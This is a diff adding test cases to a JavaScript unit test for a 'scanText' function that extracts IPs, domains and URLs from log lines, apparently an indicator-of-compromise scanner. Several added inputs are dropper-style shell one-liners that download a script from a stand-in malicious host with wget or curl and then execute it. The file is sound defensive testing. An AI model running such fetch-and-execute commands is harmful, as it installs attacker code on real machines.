@@ -12,6 +12,24 @@ describe('scanText finds', () => {
   test.each([
     ['Beacon to 185.10.20.30, then evil-cdn.net.', ['ip 185.10.20.30', 'domain evil-cdn.net']],
     ['see (https://a.badsite.net/x_(y)).', ['url https://a.badsite.net/x_(y)']],
+    [
+      'cd /tmp;wget http://185.10.20.30/bot.sh;chmod 777 bot.sh',
+      ['url http://185.10.20.30/bot.sh'],
+    ],
+    ['curl -O http://badsite.net/x&&sh x', ['url http://badsite.net/x']],
+    ['curl http://badsite.net/y;./y', ['url http://badsite.net/y']],
+    [
+      'GET http://badsite.net/p;jsessionid=1?a=1&&b=2;c=3 HTTP/1.1',
+      ['url http://badsite.net/p;jsessionid=1?a=1&&b=2;c=3'],
+    ],
+    [
+      '&quot;http://badsite.net/?a=1&amp;b=2&quot; http://badsite.net/c&nbsp;d http://badsite.net/e&#39;',
+      ['url http://badsite.net/?a=1&b=2', 'url http://badsite.net/c', 'url http://badsite.net/e'],
+    ],
+    [
+      'CEF:0|V|P|1.0|1|x|3|request=https://badsite.net/gate?id\\=5',
+      ['url https://badsite.net/gate?id=5'],
+    ],
     ['GET http://[2a00::5]:8080/x HTTP/1.1', ['url http://[2a00::5]:8080/x']],
     ['src=10.1.1.1:5353 dst=2A00::8A2E:370:7334', ['ip 10.1.1.1', 'ip 2A00::8A2E:370:7334']],
     [
